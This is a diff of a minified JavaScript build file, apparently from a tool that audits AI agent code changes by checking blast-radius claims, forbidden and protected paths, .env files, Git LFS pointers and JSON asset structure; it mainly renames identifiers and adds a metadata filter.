-s / ${r.lines} lines)`;case"critical_overrun":return`CRITICAL OVERRUN: ${e} files > ${2*i} (2x limit of ${i}). Agent lik\
-ely performed bulk/unintended operation.`;case"exceeded":return`max_files exceeded: ${e} > ${i}`;case"approaching_limit":
-return`approaching limit: ${e} / ${i} files (${Math.round(e/i*100)}%)`;case"within_limit":return`${e} / ${i} files`}}function zl(n){
-return typeof n=="number"&&n>0?n:ca}function TR(n){return n.oldPath===void 0?[n.path]:[n.path,n.oldPath]}function Ul(n){
-return n.added+n.deleted}var at=ot(561);function IR(n,e){return n.files.flatMap(t=>namesOf(t).map(s=>({path:s,via:s===t.
-path&&t.newMode===by?Ey(e,s):""})))}function $R(n,e){const t=new Map;return s=>{const r=t.get(s)??_y(n,vy(e,s));return t.
-set(s,r),r}}function RR(n){return{location:{path:n,line:1,column:1}}}const by="120000";function _y(n,e){const t=s=>e.some(
-r=>isWithin(s,r));return n.flatMap(s=>t(s.path)?[{path:s.path,via:""}]:s.via!==""&&t(s.via)?[s]:[])}function Ey(n,e){const t=resolveInTree(
-n,e);return t.kind==="inside"||t.kind==="missing"?t.path:""}function vy(n,e){const t=resolveInTree(n,e);return t.kind===
-"inside"?[e,t.path]:[e]}const ua=3;function NR(n){const e=n.length-ua;return n.slice(0,ua).map((t,s)=>e>0&&s===ua-1?{...t,
-more:e}:t)}const Jl=[".git","node_modules"];function la(n){const e=Jl.filter(s=>Il(n,s));if(e.length===0)return;const t=(Bt(
-n)??n).split("/");return e.find(s=>t.some(r=>iy(r,s)))}function FR({touched:n,touchesOf:e,policy:t}){const s=n.flatMap(ky),
-r=Jl.flatMap(o=>someTouches(s.flatMap(({touch:c,...l})=>l.directory===o?c:[])).map(c=>finding("forbidden-path",{entry:o,
-by:"nothing may touch",...c},atFile(c.path)))),i=t.blast_radius.forbidden_paths.flatMap(o=>someTouches(e(o)).map(c=>finding(
-"forbidden-path",{entry:o,by:"the policy forbids",...c},atFile(c.path))));return[...r,...i]}function ky({path:n,via:e}){
-const t=la(n),s=t??la(e);return s===void 0?[]:[{directory:s,touch:{path:n,via:t===void 0?e:""}}]}const Dy=null;function PR(n){
-const{touched:e,policy:t,policyPath:s,change:r,tree:i,genes:o}=n,c=Oy(r,i),l=o.some(({binds:h})=>h),B=Zl(t.blast_radius.
-protected_paths),d=Zl(Dy);return e.flatMap(h=>{const{path:g}=h,C=c.get(g),y=Sy(h),_=B(y),k=g===s?void 0:d(y);if(_===void 0&&
-k===void 0)return[];const E=_===void 0?{path:g,pattern:k??"",by:"the default list"}:{path:g,pattern:_,by:"the policy"},x=_!==
-void 0||C!==void 0&&l,D={...atFile(g),severity:x?"error":"warning",harm:_!==void 0||xy(g)?"danger":"broken"};return[C===
-void 0?finding("protected-path",E,D):finding("protected-file-destroyed",{...E,how:C},D)]})}function xy(n){return/(?:^|\/)\.env(?!.*(?:example|sample|template|dist)$)[^/]*$/i.
-test(n)}function Oy(n,e){const t=new Map;for(const{status:s,path:r,oldPath:i}of n.files)s==="deleted"&&t.set(r,"deletes"),
-i!==void 0&&t.set(i,"deletes"),(s==="modified"||s==="type_changed")&&e.stat(r)?.size===0&&t.set(r,"empties");return t}const Ay={
-dot:!0,nonegate:!0,nocase:!0,flags:"is"};function Zl(n){const e=n.map(t=>{const s=picomatch(t,Ay);return{pattern:t,covers:i=>s(
-i)||isWithin(i,t,{ignoreCase:!0})}});return t=>e.find(({covers:s})=>t.some(s))?.pattern}function Sy({path:n,via:e}){return e===
-""?[n]:[n,e]}function LR(n){return`${n.startsWith("E")?"an":"a"} ${n}`}function $n(n){return typeof n=="object"&&n!==null&&
-!Array.isArray(n)}function jR(n){return n.map(e=>`/${String(e).replaceAll("~","~0").replaceAll("/","~1")}`).join("")}function Ty({
-type:n,id:e}){return{type:n,id:e}}function da(n,e=[]){return{location:n.locate(e),subject:Ty(n)}}var hs=ot(56);function MR(n){
-return(e,...t)=>isChange(e)?n(e,...t):[]}async function GR(n,e,...t){const s=Object.entries(n).map(async([r,i])=>{try{return await i(
-e,...t)}catch(o){return[Iy(r,o,t)]}});return(await Promise.all(s)).flat()}function Iy(n,e,[t]){return t===void 0?notJudged(
-`the change; the check "${n}" failed`,e):$y(t.asset,e,`; the check "${n}" failed`)}function $y(n,e,t=""){const s=`the ${n.
-type} \`${n.id}\`${t}`;return notJudged(s,e,Ry(n))}function Ry(n){try{return placeOf(n)}catch{return{location:{path:n.path,
-line:1,column:1},subject:subjectOf(n)}}}function Ny(n,{path:e,detail:t},s){return(0,at.gk)("claim-not-checked",{claim:n,
-why:`${t} of the log \`${e}\``},s)}function HR({assets:{changes:n},counted:e}){return["Capsule","EvolutionEvent"].flatMap(
-t=>{const s=n.filter(({kind:c,asset:l})=>c==="added"&&l.type===t).map(({asset:c})=>({asset:c,size:Fy(c.value.blast_radius)})),
-r=s.flatMap(({size:c})=>c??[]),i=s.at(-1);if(i===void 0||r.length<s.length)return[];const o=r.reduce(Py);if(o.files<e.least.
-files||o.lines<e.least.lines){const c={together:s.length>1,severity:"warning"};return[Wl(i.asset,o,e.least,c)]}return s.
-flatMap(({asset:c,size:l})=>l!==void 0&&jy(c)&&Ly(l,e.most)?[Wl(c,l,e.most,{together:!1,severity:"notice"})]:[])})}function Wl(n,e,t,{
-together:s,severity:r}){const{type:i,id:o}=n,c={type:i,id:o,claim:`claims ${Kl(e)}${s?" together with the others of the \
-change":""}`,shown:`git counts ${Kl(t)} for this change`,fix:"Set `blast_radius` to what the cycle changed, and add the \
-asset in the same change"},l={...placeOf(n,["blast_radius"]),severity:r};return finding("claim-differs",c,l)}function Kl({
-files:n,lines:e}){return`${n} ${n===1?"file":"files"} and ${e} ${e===1?"line":"lines"}`}function Fy(n){if(!isJsonObject(
-n))return;const{files:e,lines:t}=n;return typeof e=="number"&&typeof t=="number"?{files:e,lines:t}:void 0}function Py(n,e){
-return{files:n.files+e.files,lines:n.lines+e.lines}}function Ly(n,e){return n.files>e.files||n.lines>e.lines+e.files}function jy({
-value:{outcome:n}}){return isJsonObject(n)&&n.status==="success"}const My=3,Gy=.1;function zR({assets:{changes:n},counted:e}){
+de",path:r.path,entry:r}}function fy(n){return n.length===0?ia:{...ia,path:n.join("/")}}function sn(n,e,{ignoreCase:t=!1}={}){
+const s=Bt(n),r=Bt(e);return s===void 0||r===void 0?!1:jl(r,s,t)}function Er(n,e,{at:t,tree:s}){if(Ll(n))return;const i=(xi(
+n)??[...xi(e)??[],...aa(n)]).reverse(),o=oa((xi(t)??[]).filter(B=>B!=="")),c=[];let l=0;for(let B=i.pop();B!==void 0;B=i.
+pop()){if(B===""||B===".")continue;if(B===".."){c.pop();continue}c.push(B);const d=s&&hy(s,o,oa(c));if(d===void 0)continue;
+if(l+=1,l>Rl||Ll(d))return;const h=xi(d);h===void 0?c.pop():c.length=0,i.push(...(h??aa(d)).reverse())}return oa(c)}function Di(n,e,{
+ignoreCase:t=!1}={}){return jl(e.slice(1),n.slice(1),t)}function hy(n,e,t){if(Di(t,e))return n.readlink(e==="/"?t.slice(
+1):t.slice(e.length+1))}function oa(n){return`/${n.join("/")}`}function aa(n){return n.replaceAll("\\","/").split("/")}function xi(n){
+return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(n)?aa(n):void 0}const Pl=4096;function Ll(n){return n.length>Pl?!0:n.includes("\0")||
+/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(n)}function jl(n,e,t){if(n==="")return!0;const[s,r]=t?[Oi(e),Oi(n)]:[e,n];return s===
+r||s.startsWith(`${r}/`)}function Oi(n){return Fl.test(n)?n.toLowerCase():n.normalize("NFC").toUpperCase().toLowerCase()}
+function py(n,e){const t=Bt(n);if(t!==void 0)return`/${Oi(t)}/`.includes(`/${Oi(e)}/`);const s=n.split("/");return s.some(
+(r,i)=>sn(s.slice(i).join("/"),e,{ignoreCase:!0}))}function my(n){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.test(
+n)||n.trim()!==n}const gy=["assets/gep/events.jsonl",".evolver/gep/events.jsonl",".evomap/assets/events.jsonl"],PR=null;
+function Cy(n){return yy(n)||Gl(n)}const Ml=/(?<=^|\/)events\.[^/]+\.jsonl$/is;function yy(n){return Ml.test(n)&&Gl(n.replace(
+Ml,"events.jsonl"))}function Gl(n){return $l(n,"events.jsonl")&&gy.some(e=>py(n,e))}const Ai=10,Hl=13,wy=new Set([32,9,Ai,
+Hl]);function LR(n,e){const t=ca(n),s=ca(e);let r=0;for(let i=t.next().value;i;){const o=t.next().value,c=s.next().value;
+if(!c||!_y(i.bytes,c.bytes,o===void 0))return{kind:"rewritten",line:i.line};r=c.end,i=o}return{kind:"appended",from:r}}function jR(n){
+return ca(n).next().value!==void 0}function*ca(n){let e=0;for(let t=0;t<n.length;){const s=n.indexOf(Ai,t),r=s<0?n.length:
+s,i=n.subarray(t,r);t=Math.min(r+1,n.length),e+=1,by(i)||(yield{bytes:i,line:e,end:t})}}function by(n){for(const e of n)
+if(!wy.has(e))return!1;return!0}function _y(n,e,t){return t?zl(n).equals(zl(e)):n.equals(e)}function zl(n){return n.at(-1)===
+Hl?n.subarray(0,-1):n}function MR(n,e){let t=0;for(let s=n.indexOf(Ai);s>=0&&s<e;s=n.indexOf(Ai,s+1))t+=1;return t}var Ey=ot(
+731);const ua=20;function GR(n,e){const t={files:0,lines:0,exempt_files:0,exempt_lines:0};for(const s of n.files){const{
+path:r,oldPath:i}=s,o=i===void 0?1:2,c=Number(e.has(r))+Number(i!==void 0&&e.has(i));t.files+=o-c,t.exempt_files+=c,c===
+o?t.exempt_lines+=Jl(s):t.lines+=Jl(s)}return t}function HR({files:n,lines:e,exempt_files:t,exempt_lines:s},r){return r===
+"reference"?{files:n,lines:e}:{files:n+t,lines:e+s}}function vy(n,e,t,s){const r=Ul(e);return t.files>s.files||t.lines>s.
+lines?"hard_cap_breach":n>2*r?"critical_overrun":n>r?"exceeded":(0,Ey.yl)(r,n)?"approaching_limit":"within_limit"}function ky(n,{
+files:e,lines:t},s,r){const i=Ul(s);switch(n){case"hard_cap_breach":return`HARD CAP BREACH: ${e} files / ${t} lines exce\
+eds system limit (${r.files} files / ${r.lines} lines)`;case"critical_overrun":return`CRITICAL OVERRUN: ${e} files > ${2*
+i} (2x limit of ${i}). Agent likely performed bulk/unintended operation.`;case"exceeded":return`max_files exceeded: ${e}\
+ > ${i}`;case"approaching_limit":return`approaching limit: ${e} / ${i} files (${Math.round(e/i*100)}%)`;case"within_limi\
+t":return`${e} / ${i} files`}}function Ul(n){return typeof n=="number"&&n>0?n:ua}function zR(n){return n.oldPath===void 0?
+[n.path]:[n.path,n.oldPath]}function Jl(n){return n.added+n.deleted}var at=ot(561);function UR(n,e){return n.files.flatMap(
+t=>namesOf(t).map(s=>({path:s,via:s===t.path&&t.newMode===Dy?Oy(e,s):""})))}function JR(n,e){const t=new Map;return s=>{
+const r=t.get(s)??xy(n,Ay(e,s));return t.set(s,r),r}}function ZR(n){return{location:{path:n,line:1,column:1}}}const Dy="\
+120000";function xy(n,e){const t=s=>e.some(r=>isWithin(s,r));return n.flatMap(s=>t(s.path)?[{path:s.path,via:""}]:s.via!==
+""&&t(s.via)?[s]:[])}function Oy(n,e){const t=resolveInTree(n,e);return t.kind==="inside"||t.kind==="missing"?t.path:""}
+function Ay(n,e){const t=resolveInTree(n,e);return t.kind==="inside"?[e,t.path]:[e]}const la=3;function WR(n){const e=n.
+length-la;return n.slice(0,la).map((t,s)=>e>0&&s===la-1?{...t,more:e}:t)}const Zl=[".git","node_modules"];function da(n){
+const e=Zl.filter(s=>$l(n,s));if(e.length===0)return;const t=(Bt(n)??n).split("/");return e.find(s=>t.some(r=>ly(r,s)))}
+function KR({touched:n,touchesOf:e,policy:t}){const s=n.flatMap(Sy),r=Zl.flatMap(o=>someTouches(s.flatMap(({touch:c,...l})=>l.
+directory===o?c:[])).map(c=>finding("forbidden-path",{entry:o,by:"nothing may touch",...c},atFile(c.path)))),i=t.blast_radius.
+forbidden_paths.flatMap(o=>someTouches(e(o)).map(c=>finding("forbidden-path",{entry:o,by:"the policy forbids",...c},atFile(
+c.path))));return[...r,...i]}function Sy({path:n,via:e}){const t=da(n),s=t??da(e);return s===void 0?[]:[{directory:s,touch:{
+path:n,via:t===void 0?e:""}}]}const Ty=null;function qR(n){const{touched:e,policy:t,policyPath:s,change:r,tree:i,genes:o}=n,
+c=$y(r,i),l=o.some(({binds:h})=>h),B=Wl(t.blast_radius.protected_paths),d=Wl(Ty);return e.flatMap(h=>{const{path:g}=h,C=c.
+get(g),y=Ny(h),_=B(y),k=g===s?void 0:d(y);if(_===void 0&&k===void 0)return[];const E=_===void 0?{path:g,pattern:k??"",by:"\
+the default list"}:{path:g,pattern:_,by:"the policy"},x=_!==void 0||C!==void 0&&l,D={...atFile(g),severity:x?"error":"wa\
+rning",harm:_!==void 0||Iy(g)?"danger":"broken"};return[C===void 0?finding("protected-path",E,D):finding("protected-file\
+-destroyed",{...E,how:C},D)]})}function Iy(n){return/(?:^|\/)\.env(?!.*(?:example|sample|template|dist)$)[^/]*$/i.test(n)}
+function $y(n,e){const t=new Map;for(const{status:s,path:r,oldPath:i}of n.files)s==="deleted"&&t.set(r,"deletes"),i!==void 0&&
+t.set(i,"deletes"),(s==="modified"||s==="type_changed")&&e.stat(r)?.size===0&&t.set(r,"empties");return t}const Ry={dot:!0,
+nonegate:!0,nocase:!0,flags:"is"};function Wl(n){const e=n.map(t=>{const s=picomatch(t,Ry);return{pattern:t,covers:i=>s(
+i)||isWithin(i,t,{ignoreCase:!0})}});return t=>e.find(({covers:s})=>t.some(s))?.pattern}function Ny({path:n,via:e}){return e===
+""?[n]:[n,e]}function YR(n){return`${/^[AE]/.test(n)?"an":"a"} ${n}`}function En(n){return typeof n=="object"&&n!==null&&
+!Array.isArray(n)}function VR(n){return n.map(e=>`/${String(e).replaceAll("~","~0").replaceAll("/","~1")}`).join("")}function Fy({
+type:n,id:e}){return{type:n,id:e}}function Ba(n,e=[]){return{location:n.locate(e),subject:Fy(n)}}var hs=ot(56);function QR(n){
+return(e,...t)=>isChange(e)?n(e,...t):[]}async function XR(n,e,...t){const s=Object.entries(n).map(async([r,i])=>{try{return await i(
+e,...t)}catch(o){return[Py(r,o,t)]}});return(await Promise.all(s)).flat()}function Py(n,e,[t]){return t===void 0?notJudged(
+`the change; the check "${n}" failed`,e):Ly(t.asset,e,`; the check "${n}" failed`)}function Ly(n,e,t=""){const s=`the ${n.
+type} \`${n.id}\`${t}`;return notJudged(s,e,jy(n))}function jy(n){try{return placeOf(n)}catch{return{location:{path:n.path,
+line:1,column:1},subject:subjectOf(n)}}}function My(n,{path:e,detail:t},s){return(0,at.gk)("claim-not-checked",{claim:n,
+why:`${t} of the log \`${e}\``},s)}function eN({assets:{changes:n},counted:e}){return["Capsule","EvolutionEvent"].flatMap(
+t=>{const s=n.filter(({kind:c,asset:l})=>c==="added"&&l.type===t).map(({asset:c})=>({asset:c,size:Gy(c.value.blast_radius)})),
+r=s.flatMap(({size:c})=>c??[]),i=s.at(-1);if(i===void 0||r.length<s.length)return[];const o=r.reduce(Hy);if(o.files<e.least.
+files||o.lines<e.least.lines){const c={together:s.length>1,severity:"warning"};return[Kl(i.asset,o,e.least,c)]}return s.
+flatMap(({asset:c,size:l})=>l!==void 0&&Uy(c)&&zy(l,e.most)?[Kl(c,l,e.most,{together:!1,severity:"notice"})]:[])})}function Kl(n,e,t,{
+together:s,severity:r}){const{type:i,id:o}=n,c={type:i,id:o,claim:`claims ${ql(e)}${s?" together with the others of the \
+change":""}`,shown:`git counts ${ql(t)} for this change`,fix:"Set `blast_radius` to what the cycle changed, and add the \
+asset in the same change"},l={...placeOf(n,["blast_radius"]),severity:r};return finding("claim-differs",c,l)}function ql({
+files:n,lines:e}){return`${n} ${n===1?"file":"files"} and ${e} ${e===1?"line":"lines"}`}function Gy(n){if(!isJsonObject(
+n))return;const{files:e,lines:t}=n;return typeof e=="number"&&typeof t=="number"?{files:e,lines:t}:void 0}function Hy(n,e){
+return{files:n.files+e.files,lines:n.lines+e.lines}}function zy(n,e){return n.files>e.files||n.lines>e.lines+e.files}function Uy({
+value:{outcome:n}}){return isJsonObject(n)&&n.status==="success"}const Jy=3,Zy=.1;function tN({assets:{changes:n},counted:e}){
 const{least:t,most:s}=e,r=n.filter(({kind:i,asset:o})=>i==="added"&&o.type==="EvolutionEvent");return r.flatMap(({asset:i})=>{
 const{blast_radius_estimate:o,meta:c,blast_radius:l}=i.value,B=isJsonObject(o)?[]:["meta"],d=B.length===0?o:isJsonObject(
-c)&&c.blast_radius_estimate,h=Ba(d);if(h===void 0||h<=0)return[];const g=r.length===1,C=g?t.files:Ba(l),y=g?s.files:Ba(l);
-if(C===void 0||y===void 0)return[];const _=C/h>My;if(!_&&y/h>=Gy)return[];const k=_?C:y,E=placeOf(i,[...B,"blast_radius_\
+c)&&c.blast_radius_estimate,h=fa(d);if(h===void 0||h<=0)return[];const g=r.length===1,C=g?t.files:fa(l),y=g?s.files:fa(l);
+if(C===void 0||y===void 0)return[];const _=C/h>Jy;if(!_&&y/h>=Zy)return[];const k=_?C:y,E=placeOf(i,[...B,"blast_radius_\
 estimate"]),x={type:i.type,id:i.id,claim:`estimates ${h} ${h===1?"file":"files"}`,shown:`the change touches ${k}`,fix:"R\
-eview the changes that were not planned, or update the estimate"};return[finding("claim-differs",x,E)]})}function Ba(n){
-return isJsonObject(n)&&typeof n.files=="number"?n.files:void 0}const Hy="gep-a2a",zy=new Set(["publish","report","fetch"]);
-function UR(n){return isJsonObject(n)&&n.protocol===Hy}function JR({message_type:n}){return zy.has(n)}function Uy({payload:n}){
-return isJsonObject(n)?n:{}}function ZR({sender_id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}const Jy=new Set(
-["payload","asset"]),Zy=null;function WR(n){const e=n.filter(({key:s})=>Jy.has(s));return(e.length===0&&n.length===1?n:e).
-map(({asset:s})=>s)}function KR(n){const e={};for(const t of Zy){const s=n[t];s!=null&&(e[t]=s)}return Object.keys(e).length>
-0?e:void 0}function qR({value:n,wrappers:e=[],envelope:t}){if(t===void 0&&e.length===0)return canonicalize(n);const{sender_id:s,
-signature:r}=t??{},i=t&&{sender_id:s,signature:[r,Uy(t).signature]};return canonicalize([n,e,i])}var Ws=ot(108);const Wy=new Map(
-Object.entries({genes:"Gene",capsules:"Capsule",events:"EvolutionEvent",evolution_events:"EvolutionEvent",validation_reports:"\
-ValidationReport",mutations:"Mutation"})),YR=new Set(["assets","results"]),VR=new Map(Object.entries({gene:"Gene",capsule:"\
-Capsule",event:"EvolutionEvent",evolution_event:"EvolutionEvent",validation_report:"ValidationReport",mutation:"Mutation"})),
-Ky=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task"]);function QR(n){return ASSET_TYPES.includes(n)}function XR(n){
-return typeof n=="string"&&Ky.has(n)}function eN(n){return Object.keys(n).some(e=>Wy.has(e)&&Array.isArray(n[e]))}function tN(n,e){
-const t=new qy(e);for(const[s,r]of n.entries())t.visitTop(r,s);return t}class qy{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){
+eview the changes that were not planned, or update the estimate"};return[finding("claim-differs",x,E)]})}function fa(n){
+return isJsonObject(n)&&typeof n.files=="number"?n.files:void 0}const Wy=["generation_meta","model_name"],Ky=2e3,qy=/[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
+function Yy(n){return n.type!=="Gene"?[]:Wy.filter(e=>{const t=n[e];if(typeof t!="string"&&!En(t))return!1;const s=JSON.
+stringify(t);return s.length<=Ky&&!qy.test(s)})}function Yl(n){const e=new Set(Yy(n));return e.size===0?n:Object.fromEntries(
+Object.entries(n).filter(([t])=>!e.has(t)))}const Vy="gep-a2a",Qy=new Set(["publish","report","fetch"]);function nN(n){return isJsonObject(
+n)&&n.protocol===Vy}function sN({message_type:n}){return Qy.has(n)}function Xy({payload:n}){return isJsonObject(n)?n:{}}
+function rN({sender_id:n}){return typeof n=="string"&&n.trim()!==""?n:void 0}const ew=new Set(["payload","asset"]),tw=null;
+function iN(n){const e=n.filter(({key:s})=>ew.has(s));return(e.length===0&&n.length===1?n:e).map(({asset:s})=>s)}function oN(n){
+const e={};for(const t of tw){const s=n[t];s!=null&&(e[t]=s)}return Object.keys(e).length>0?e:void 0}function aN({value:n,
+wrappers:e=[],envelope:t}){if(t===void 0&&e.length===0)return canonicalize(n);const{sender_id:s,signature:r}=t??{},i=t&&
+{sender_id:s,signature:[r,Xy(t).signature]};return canonicalize([n,e,i])}var Ks=ot(108);const nw=new Map(Object.entries(
+{genes:"Gene",capsules:"Capsule",events:"EvolutionEvent",evolution_events:"EvolutionEvent",validation_reports:"Validatio\
+nReport",mutations:"Mutation",anti_genes:"AntiGene"})),cN=new Set(["assets","results"]),uN=new Map(Object.entries({gene:"\
+Gene",capsule:"Capsule",event:"EvolutionEvent",evolution_event:"EvolutionEvent",validation_report:"ValidationReport",mutation:"\
+Mutation"})),sw=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task"]);function lN(n){return ASSET_TYPES.includes(
+n)}function dN(n){return typeof n=="string"&&sw.has(n)}function BN(n){return Object.keys(n).some(e=>nw.has(e)&&Array.isArray(
+n[e]))}function fN(n,e){const t=new rw(e);for(const[s,r]of n.entries())t.visitTop(r,s);return t}class rw{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){
 this.#e=e}visitTop(e,t){this.#i||=e.cut===!0,this.#n(e,"some_asset",[t])}#r(e,t,s,r){const i={node:e,pointer:t,value:s,type:r,
 ...this.#t&&{envelope:this.#t}};return this.candidates.push(i),i}#n(e,t,s){if(isJsonObject(e.value))return this.#u(e,e.value,
-t,s);Array.isArray(e.value)?this.#c(e,t,s):t!=="anything"&&this.#d(e,t,Yy(e.value))}#c({children:e=[]},t,s){for(const[r,
+t,s);Array.isArray(e.value)?this.#c(e,t,s):t!=="anything"&&this.#d(e,t,iw(e.value))}#c({children:e=[]},t,s){for(const[r,
 i]of e.entries())this.#n(i,t,[...s,r])}#u(e,t,s,r){const{type:i}=t;if(!isAssetType(i)&&!isCompanion(i))return this.#o(e,
 t,s,r);const o=isAssetType(i)?this.#r(e,r,t,i):void 0;return this.#h(e,r),o}#o(e,t,s,r){const i=isAssetType(s)?s:Array.isArray(
-t.validation)?"Gene":void 0;if(i===void 0)return this.#a(e,t,s,r);const o=ql(t.type);this.#d(e,s,`${o}; it is audited as\
- ${withArticle(i)}`);const c=this.#r(e,r,t,i);return this.#h(e,r),c}#a(e,t,s,r){const i=ql(t.type),o=this.#t,c=isMessage(
+t.validation)?"Gene":void 0;if(i===void 0)return this.#a(e,t,s,r);const o=Vl(t.type);this.#d(e,s,`${o}; it is audited as\
+ ${withArticle(i)}`);const c=this.#r(e,r,t,i);return this.#h(e,r),c}#a(e,t,s,r){const i=Vl(t.type),o=this.#t,c=isMessage(
 t);c&&(this.messages.push(e),this.#t=t);const l=this.candidates.length+this.#s,B=(e.children??[]).flatMap(C=>{const y=C.
 key?.name??"",_=this.#B(C,[...r,y]);return _?[{key:y,asset:_}]:[]});this.#t=o,this.candidates.length+this.#s===l&&!c&&s===
 "some_asset"&&this.#d(e,s,i);const h=described(B),g=statementsIn(t);if(g)for(const C of h)C.wrappers=[...C.wrappers??[],
@@ -3074,95 +3081,95 @@ g];return h.length===1?h[0]:void 0}#B(e,t){const s=LISTS.get(e.key?.name??""),r=
 "")?this.#p(e,t):this.#n(e,r&&isJsonObject(e.value)?r:"anything",t)}#p(e,t){return this.#n(e,Array.isArray(e.value)?"som\
 e_asset":"anything",t)}#h(e,t){for(const{key:s,value:r,children:i=[]}of e.children??[]){const o=LISTS.get(s?.name??"");if(!(!o||
 !Array.isArray(r)))for(const[c,l]of i.entries())isJsonObject(l.value)&&this.#n(l,o,[...t,s?.name??"",c])}}#d(e,t,s){if(this.#i)
-return;const r=isAssetType(t)?withArticle(t):"an asset";this.#e.add("not-an-asset",e,`expected ${r}, found ${s}`)}}function Yy(n){
-return n===null?"null":`a ${typeof n}`}function ql(n){return n===void 0?'an object without a "type"':typeof n!="string"?
-'an object whose "type" is not a string':`an object of type ${JSON.stringify(n.slice(0,40))}`}var nN=ot(547);const He=nn(
+return;const r=isAssetType(t)?withArticle(t):"an asset";this.#e.add("not-an-asset",e,`expected ${r}, found ${s}`)}}function iw(n){
+return n===null?"null":`a ${typeof n}`}function Vl(n){return n===void 0?'an object without a "type"':typeof n!="string"?
+'an object whose "type" is not a string':`an object of type ${JSON.stringify(n.slice(0,40))}`}var hN=ot(547);const He=nn(
 import.meta.url)("node:path");function Si(n,e){const t=new Map;for(const s of n){const r=e(s),i=t.get(r);i?i.push(s):t.set(
-r,[s])}return t}function Wt(n){return n==="file"||n==="executable"}function ps(n,e){if(e==="")return n;const t=Yl.get(n)??
-new Map;Yl.set(n,t);const s=t.get(e)??Vy(n,e);return t.set(e,s),s}const Yl=new WeakMap;function Vy(n,e){const t=`${e}/`,
+r,[s])}return t}function Kt(n){return n==="file"||n==="executable"}function ps(n,e){if(e==="")return n;const t=Ql.get(n)??
+new Map;Ql.set(n,t);const s=t.get(e)??ow(n,e);return t.set(e,s),s}const Ql=new WeakMap;function ow(n,e){const t=`${e}/`,
 s=c=>c===""?e:t+c,r=c=>({...c,path:c.path===e?"":c.path.slice(t.length)}),{original:i,isPending:o}=n;return{label:n.label,
 ...i&&{original:ps(i,e)},...o&&{isPending:c=>o(s(c))},stat:c=>{const l=n.stat(s(c));return l&&r(l)},readlink:c=>n.readlink(
 s(c)),list:c=>n.list(s(c)).map(r),files:()=>[...n.files()].filter(({path:c})=>c.startsWith(t)).map(r),read:(c,l)=>n.read(
-s(c),l)}}const Qy=Rn(n=>Si(n.files(),({path:e})=>He.posix.basename(e)));function Ti(n,e){return Qy(n).get(e)??[]}function Rn(n){
+s(c),l)}}const aw=Rn(n=>Si(n.files(),({path:e})=>He.posix.basename(e)));function Ti(n,e){return aw(n).get(e)??[]}function Rn(n){
 const e=new WeakMap;return t=>{const s=t.original??t,{answer:r}=e.get(s)??{answer:n(s)};return e.set(s,{answer:r}),r}}function vr(n){
-const e=Rn(()=>new Map);return(t,s)=>{const r=e(t),i=r.get(s)??n(t,s);return r.set(s,i),i}}const Xy="version https://git\
--lfs.github.com/spec/";function ew(n){if(n.startsWith(Xy))return"this is a Git LFS pointer; commit the file itself (git \
-lfs untrack)"}function sN(n,e,t){return new tw(n,e,t).read()}class tw{#e;#t;#s;#i;#r=Ql;#n=0;#c=!1;#u=!1;#o=!1;constructor(e,t,s){
-this.#e=t,this.#t=s,this.#s=cw(e),this.#i=lfsObstacle(e)}read(){const e=[];let t=!1;for(this.#a();this.#r.kind!=="end";){
-const s=this.#r,r=Vl.has(s.kind);if(s.kind==="{"||s.kind==="["||r&&!t&&!this.#o){t=!1,this.#c=!1,e.push(this.#B(0)),this.#u=
-!1;continue}t||(t=!0,this.#c=this.#o,this.#l(s.start===0&&this.#i||fa("a JSON value",s))),this.#a()}return e}#a(){do{this.#r=
+const e=Rn(()=>new Map);return(t,s)=>{const r=e(t),i=r.get(s)??n(t,s);return r.set(s,i),i}}const cw="version https://git\
+-lfs.github.com/spec/";function uw(n){if(n.startsWith(cw))return"this is a Git LFS pointer; commit the file itself (git \
+lfs untrack)"}function pN(n,e,t){return new lw(n,e,t).read()}class lw{#e;#t;#s;#i;#r=ed;#n=0;#c=!1;#u=!1;#o=!1;constructor(e,t,s){
+this.#e=t,this.#t=s,this.#s=gw(e),this.#i=lfsObstacle(e)}read(){const e=[];let t=!1;for(this.#a();this.#r.kind!=="end";){
+const s=this.#r,r=Xl.has(s.kind);if(s.kind==="{"||s.kind==="["||r&&!t&&!this.#o){t=!1,this.#c=!1,e.push(this.#B(0)),this.#u=
+!1;continue}t||(t=!0,this.#c=this.#o,this.#l(s.start===0&&this.#i||ha("a JSON value",s))),this.#a()}return e}#a(){do{this.#r=
 this.#s();const{kind:e,start:t,fault:s}=this.#r;if(this.#n>this.#e.maxValues){const r=`more than ${this.#e.maxValues} JS\
-ON values; the rest is not read`;this.#t.add("file-too-large",this.#r,r),this.#r={...Ql,start:t,end:t},this.#c=!0}else e===
-"comment"&&this.#l(s??Xl(this.#r))}while(this.#r.kind==="comment")}#B(e){const t=this.#r,{kind:s,start:r,end:i}=t;if(this.#n+=
-1,t.fault&&this.#l(t.fault),s==="unknown"&&this.#l(fa("a JSON value",t)),s!=="{"&&s!=="[")return this.#a(),{value:nw(t),
+ON values; the rest is not read`;this.#t.add("file-too-large",this.#r,r),this.#r={...ed,start:t,end:t},this.#c=!0}else e===
+"comment"&&this.#l(s??td(this.#r))}while(this.#r.kind==="comment")}#B(e){const t=this.#r,{kind:s,start:r,end:i}=t;if(this.#n+=
+1,t.fault&&this.#l(t.fault),s==="unknown"&&this.#l(ha("a JSON value",t)),s!=="{"&&s!=="[")return this.#a(),{value:dw(t),
 start:r,end:i};if(e<this.#e.maxDepth)return this.#p(e);const o=`brackets nested more than ${this.#e.maxDepth} deep`;this.#t.
 add("file-not-json",t,o);const c={value:null,start:r,end:this.#m()};return this.#a(),c}#p(e){const{kind:t,start:s,end:r}=this.#r,
 i=t==="{"?"}":"]",c={value:t==="{"?Object.create(null):[],start:s,end:r,children:[]};for(let l=",";l===",";l=this.#r.kind){
 if(this.#a(),this.#r.kind===i){c.children.length>0&&this.#l(`a comma before "${i}"`);break}if(this.#h(c,e),!this.#u&&this.#r.
 kind!==i&&this.#r.kind!==","&&this.#f(`"," or "${i}"`),this.#u)return{...c,end:this.#r.start,cut:!0}}return c.end=this.#r.
